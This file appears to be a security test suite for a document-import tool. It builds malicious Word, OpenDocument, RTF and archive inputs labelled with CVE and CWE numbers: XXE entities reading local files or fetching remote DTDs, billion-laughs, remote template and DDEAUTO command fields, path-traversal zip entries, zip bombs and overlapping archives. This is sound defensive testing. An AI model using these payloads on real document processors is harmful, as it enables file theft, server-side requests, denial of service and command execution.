"""Word files, and what is no Word file: imported, checked, refused by name."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable, Sequence

from tests.attacks.attack import ANY, BAD_INPUT, FOUND, Attack, Place, zipped
from tests.importing.word_files import RELATIONS, TYPES, R, W, bare, p, part

__all__ = ["ATTACKS", "overlapping", "twice"]

_BODY = p("A bridge opens") + p("The bridge is open to ambulances again.")
_DOCUMENT = "word/document.xml"
_FILES: dict[str, str | bytes] = {"[Content_Types].xml": TYPES, "_rels/.rels": RELATIONS}
_OUTER = '<!DOCTYPE x [<!ENTITY e SYSTEM "file://@SECRET@">]>'
_REMOTE = '<!DOCTYPE x [<!ENTITY % e SYSTEM "http://@ADDRESS@/a.dtd"> %e;]>'
_LAUGHS = '<!DOCTYPE x [<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12)) + "]>"


def _document(body: str, head: str = "") -> str:
    return f'{head}<w:document xmlns:w="{W}" xmlns:r="{R}"><w:body>{body}</w:body></w:document>'


def _filled(place: Place, files: dict[str, str | bytes]) -> bytes:
    """Return the file, its members filled before they are packed."""
    return zipped({name: place.filled(data) for name, data in files.items()})


def _parts(name: str, advisory: str, files: dict[str, str | bytes], codes: frozenset[int] = ANY, way: str = "import") -> Attack:
    def make(place: Place) -> Sequence[object]:
        place.write("a.docx", _filled(place, {**_FILES, _DOCUMENT: _document(_BODY), **files}))
        return ("import", "a.docx", "-o", "new") if way == "import" else ("check", "a.docx")

    return Attack(name, advisory, make, codes)


def _raw(name: str, advisory: str, data: Callable[[], bytes], codes: frozenset[int] = ANY, file: str = "a.docx") -> Attack:
    def make(place: Place) -> Sequence[object]:
        place.write(file, data())
        return ("import", file, "-o", "new")

    return Attack(name, advisory, make, codes)


def _body(name: str, advisory: str, body: str, head: str = "", codes: frozenset[int] = ANY) -> Attack:
    return _parts(name, advisory, {_DOCUMENT: _document(body, head)}, codes)


def _related(kind: str, target: str, mode: str = "External") -> dict[str, str | bytes]:
    link = f'<Relationship Id="r9" Type="{R}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    return {"word/_rels/document.xml.rels": f'<Relationships xmlns="{space}">{link}</Relationships>'}


def _field(order: str) -> str:
    marks = [f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end")]
    return f"<w:p>{marks[0]}<w:r><w:instrText>{order}</w:instrText></w:r>{marks[1]}<w:r><w:t>a</w:t></w:r>{marks[2]}</w:p>"


def twice(first: bytes, second: bytes) -> bytes:
    """Return an archive in which the text stands twice, each different."""
    return zipped([*_FILES.items(), (_DOCUMENT, first), (_DOCUMENT, second)])


def overlapping(copies: int = 200, megabytes: int = 5) -> bytes:
    """Return an archive whose many entries are the same packed bytes."""
    data = zipped({"a.xml": b"<x>" + bytes(megabytes << 20).replace(b"\0", b" ") + b"</x>"})
    at = data.index(b"PK\x01\x02")
    head, entry = data[:at], data[at : data.index(b"PK\x05\x06")]
    entries = b"".join(entry.replace(b"a.xml", f"{n:05d}"[-5:].encode()) for n in range(copies))
    return head + entries + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, copies, copies, len(entries), len(head), 0)


def _sixty_four() -> bytes:
    data = bare(_BODY)
    return data[:-22] + struct.pack("<IIQI", 0x07064B50, 0, 2**63, 1) + data[-22:-6] + b"\xff\xff\xff\xff\0\0"


def _bomb(megabytes: int) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in _FILES.items():
            archive.writestr(name, data)
        with archive.open(_DOCUMENT, "w", force_zip64=True) as member:
            for _ in range(megabytes):
                member.write(b" " * (1 << 20))
    return out.getvalue()


_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + "EncryptedPackage".encode("utf-16-le") + bytes(600)
_MACROS = TYPES.replace("openxmlformats-officedocument.wordprocessingml.document.main", "ms-word.document.macroEnabled.main")
_DEEP = "<w:tbl><w:tr><w:tc>" * 2_000 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 2_000

_XML = (
    _body("an entity of the machine", "CVE-2016-5851", p("&e;"), _OUTER, BAD_INPUT),
    _body("an entity of the network", "CVE-2014-0191", _BODY, _REMOTE, BAD_INPUT),
    _body("entities of entities", "CVE-2014-3660", p("&a11;"), _LAUGHS, BAD_INPUT),
    _parts("an entity in the list of types", "CVE-2016-5851", {"[Content_Types].xml": _OUTER + TYPES.partition("?>")[2]}),
    _parts("an entity in the relations", "CVE-2016-5851", {"_rels/.rels": _OUTER + RELATIONS.partition("?>")[2]}, BAD_INPUT),
    _parts("an entity in the properties", "CVE-2026-41066", {"docProps/core.xml": _OUTER + "<x>&e;</x>"}),
    _parts("an entity in the footnotes", "CVE-2016-5851", {"word/footnotes.xml": _OUTER + part("footnotes", p("&e;")).partition("?>")[2]}),
    _parts("an entity in the styles, checked", "CVE-2026-41066", {"word/styles.xml": _OUTER + "<x>&e;</x>"}, BAD_INPUT, "check"),
    _body("an inclusion of the machine", "CWE-611", '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://@SECRET@" parse="text"/>' + _BODY),
    _body("tables in tables", "CWE-674", _DEEP),
    _body("a hundred thousand elements in each other", "CWE-674", "<w:r>" * 100_000 + "</w:r>" * 100_000),
    _body("a table of a thousand million columns", "CWE-770", '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="1000000000"/></w:tcPr><w:p/></w:tc></w:tr></w:tbl>'),
    _body("numbers beyond digits", "CVE-2020-10735", f'<w:p><w:pPr><w:numPr><w:ilvl w:val="{"9" * 5_000}"/><w:numId w:val="-1"/></w:numPr></w:pPr></w:p>'),
    _body("letters beyond letters", "CWE-20", '<w:p><w:r><w:sym w:font="x" w:char="110000"/><w:sym w:char="zz"/></w:r></w:p>' + _BODY),
    _body("a thousand spaces of names", "CWE-407", "".join(f'<a{n}:b xmlns:a{n}="u{n}"/>' for n in range(3_000)) + _BODY),
    _body("an element of many attributes", "CWE-407", "<w:p " + " ".join(f'a{n}=""' for n in range(30_000)) + "/>"),
    _body("marks that end before they begin", "CWE-20", '<w:bookmarkEnd w:id="1"/><w:p><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>' + _BODY),
    _body("words that colour the terminal", "CVE-2024-58251", p("A title") + p("\u009b31m words \u202e turned")),
    _parts("another encoding", "CWE-173", {_DOCUMENT: _document(p("+ADw-"), '<?xml version="1.0" encoding="utf-7"?>')}),
)
_LINKS = (
    _parts("a template elsewhere", "CVE-2022-30190", _related("attachedTemplate", "http://@ADDRESS@/a.dotm!x"), ANY),
    _parts("a template elsewhere, checked", "CVE-2022-30190", _related("attachedTemplate", "http://@ADDRESS@/a.dotm"), FOUND, "check"),
    _parts("a picture of the machine", "CVE-2024-28184", {**_related("image", "file://@SECRET@"), _DOCUMENT: _document(f'{_BODY}<w:p><w:r><w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" r:id="r9"/></w:pict></w:r></w:p>')}),
    _parts("a picture from above", "CVE-2018-1002203", _related("image", "../../../outside/secret.txt", "Internal")),
    _parts("a page of another kind inside", "CVE-2017-0199", {**_related("aFChunk", "a.rtf", "Internal"), "word/a.rtf": r"{\rtf1{\object\objautlink\objupdate @SECRET@}}", _DOCUMENT: _document(_BODY + '<w:altChunk r:id="r9"/>')}),
    _parts("an object inside", "CVE-2017-11882", {**_related("oleObject", "embeddings/a.bin", "Internal"), "word/embeddings/a.bin": _OLE}, FOUND, "check"),
    _body("a field that runs a program", "CWE-78", _field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k touch"')),
    _body("a field that includes a text", "CVE-2024-28184", _field('INCLUDETEXT "@SECRET@"') + _field('INCLUDEPICTURE "http://@ADDRESS@/a"')),
    _parts("a field that includes a text, checked", "CVE-2024-28184", {_DOCUMENT: _document(_field('INCLUDETEXT "@SECRET@"'))}, FOUND, "check"),
    _parts("a link that is a script", "CVE-2026-21483", {**_related("hyperlink", "javascript:alert(1)"), _DOCUMENT: _document(f'{_BODY}<w:p><w:hyperlink r:id="r9"><w:r><w:t>here</w:t></w:r></w:hyperlink></w:p>')}),
    _parts("relations of themselves", "CWE-674", _related("officeDocument", "document.xml", "Internal")),
)
_ARCHIVES = (
    _parts("a part that leads out", "CVE-2018-1002203", {"../../outside/made.xml": "<x/>"}, BAD_INPUT),
    _parts("a part at an absolute place", "CVE-2018-1002205", {"/etc/made.xml": "<x/>"}, BAD_INPUT),
    _parts("a part on a drive", "CVE-2018-1002205", {"C:\\made.xml": "<x/>"}, BAD_INPUT),
    _raw("a text that stands twice", "CVE-2026-115905", lambda: twice(_document(_BODY).encode(), _document(p("Other words")).encode())),
    _raw("a text that unpacks without end", "CVE-2019-9674", lambda: _bomb(600), BAD_INPUT),
    _raw("entries that lie over each other", "CVE-2024-0450", overlapping, BAD_INPUT),
    _raw("an end that lies elsewhere", "CVE-2025-8291", _sixty_four),
    _raw("ten thousand parts", "CWE-770", lambda: zipped({**_FILES, _DOCUMENT: _document(_BODY), **{f"word/{n}.xml": "" for n in range(10_000)}}), BAD_INPUT),
    _parts("macros", "CWE-434", {"[Content_Types].xml": _MACROS, "word/vbaProject.bin": _OLE}),
    _raw("a password", "CWE-755", lambda: _OLE, BAD_INPUT),
    _raw("an archive that is cut off", "CWE-755", lambda: bare(_BODY)[:-40], BAD_INPUT),
    _raw("an archive in an archive", "CVE-2019-9674", lambda: zipped({"a.docx": bare(_BODY)}), BAD_INPUT),
)
_ODT = {"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<x/>"}
_REFUSED = tuple(
    _raw(name, advisory, lambda data=data: data, BAD_INPUT, file)  # type: ignore[misc]
    for name, advisory, file, data in (
        ("a text of LibreOffice", "CWE-434", "a.odt", zipped(_ODT)),
        ("a text of LibreOffice with an entity", "CWE-611", "a.odt", zipped({**_ODT, "content.xml": _OUTER + "<x>&e;</x>"})),
        ("a text of LibreOffice with macros", "CWE-434", "a.odt", zipped({**_ODT, "Basic/Standard/a.xml": "<x/>"})),
        ("a text of LibreOffice called Word file", "CWE-434", "a.docx", zipped(_ODT)),
        ("a flat text of LibreOffice", "CWE-611", "a.fodt", (_OUTER + "<x>&e;</x>").encode()),
        ("a page in rich text", "CVE-2023-21716", "a.rtf", b"{\\rtf1{\\fonttbl" + b"{\\f0 a;}" * 40_000 + b"}}"),
        ("an old Word file", "CWE-434", "a.doc", _OLE),
        ("a web page", "CWE-434", "a.html", b"<script>alert(1)</script>"),
        ("an email", "CWE-434", "a.eml", b"From: a\nContent-Type: text/html\n\n<script>"),
    )
)
ATTACKS = (*_XML, *_LINKS, *_ARCHIVES, *_REFUSED)
